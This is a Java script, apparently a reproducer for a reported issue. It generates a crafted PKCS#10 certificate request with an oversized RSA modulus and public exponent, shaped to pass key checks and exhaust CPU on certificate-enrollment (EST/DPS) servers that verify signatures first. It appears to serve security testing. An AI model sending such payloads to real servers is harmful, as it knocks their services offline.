import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.util.Base64;

/**
 * Writes the issue-10 attack body: a PKCS#10 request whose key is RSA with a 16384-bit modulus
 * and a 16384-bit public exponent (random numbers: no key is generated, the signature is random
 * bytes). A server that verifies the signature before checking the key spends seconds of CPU on
 * it; one that checks the key first refuses it at once.
 *
 * <pre>
 *   java scripts/HostileCsr.java CN OUT_DIR
 * </pre>
 * writes OUT_DIR/rsa16384.csr (base64 DER, an EST body) and OUT_DIR/rsa16384.json (a DPS
 * registration body {"registrationId": CN, "csr": ...}). Plain JDK: DER is written by hand.
 */
public final class HostileCsr {
  public static void main(String[] args) throws Exception {
    String cn = args.length > 0 ? args[0] : "victim";
    Path dir = Path.of(args.length > 1 ? args[1] : ".");
    SecureRandom random = new SecureRandom();
    BigInteger modulus = modulus(random);
    BigInteger exponent = new BigInteger(16384, random).setBit(16383).setBit(0);
    byte[] der = csr(cn, modulus, exponent, random);
    String b64 = Base64.getEncoder().encodeToString(der);
    Files.writeString(dir.resolve("rsa16384.csr"), Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n");
    Files.writeString(dir.resolve("rsa16384.json"), "{\"registrationId\":\"" + cn + "\",\"csr\":\"" + b64 + "\"}");
  }

  /**
   * A 16384-bit odd composite without prime factors below 1000, which is what Bouncy Castle's
   * RSA key checks look for (a real RSA-16384 key takes minutes to generate and is no costlier
   * to verify).
   */
  static BigInteger modulus(SecureRandom random) {
    BigInteger small = BigInteger.ONE;
    for (int p = 3; p < 1000; p += 2) {
      if (BigInteger.valueOf(p).isProbablePrime(20)) {
        small = small.multiply(BigInteger.valueOf(p));
      }
    }
    while (true) {
      BigInteger n = new BigInteger(16384, random).setBit(16383).setBit(0);
      if (n.gcd(small).equals(BigInteger.ONE)) {
        return n;
      }
    }
  }

  static byte[] csr(String cn, BigInteger n, BigInteger e, SecureRandom random) {
    byte[] rsaOid = tlv(0x06, new byte[] {0x2A, (byte) 0x86, 0x48, (byte) 0x86, (byte) 0xF7, 0x0D, 0x01, 0x01, 0x01});
    byte[] sha256Rsa = tlv(0x06, new byte[] {0x2A, (byte) 0x86, 0x48, (byte) 0x86, (byte) 0xF7, 0x0D, 0x01, 0x01, 0x0B});
    byte[] nul = {0x05, 0x00};
    byte[] key = tlv(0x30, cat(tlv(0x02, n.toByteArray()), tlv(0x02, e.toByteArray())));
    byte[] spki = tlv(0x30, cat(tlv(0x30, cat(rsaOid, nul)), tlv(0x03, cat(new byte[] {0}, key))));
    byte[] cnAttr = tlv(0x30, cat(tlv(0x06, new byte[] {0x55, 0x04, 0x03}), tlv(0x0C, cn.getBytes(StandardCharsets.UTF_8))));
    byte[] name = tlv(0x30, tlv(0x31, cnAttr));
    byte[] info = tlv(0x30, cat(tlv(0x02, new byte[] {0}), name, spki, tlv(0xA0, new byte[0])));
    byte[] signature = new byte[2048];
    random.nextBytes(signature);
    return tlv(0x30, cat(info, tlv(0x30, cat(sha256Rsa, nul)), tlv(0x03, cat(new byte[] {0}, signature))));
  }

  static byte[] tlv(int tag, byte[] content) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(tag);
    int len = content.length;
    if (len < 0x80) {
      out.write(len);
    } else {
      int octets = (32 - Integer.numberOfLeadingZeros(len) + 7) / 8;
      out.write(0x80 | octets);
      for (int i = octets - 1; i >= 0; i--) {
        out.write(len >>> (8 * i));
      }
    }
    out.writeBytes(content);
    return out.toByteArray();
  }

  static byte[] cat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }
}
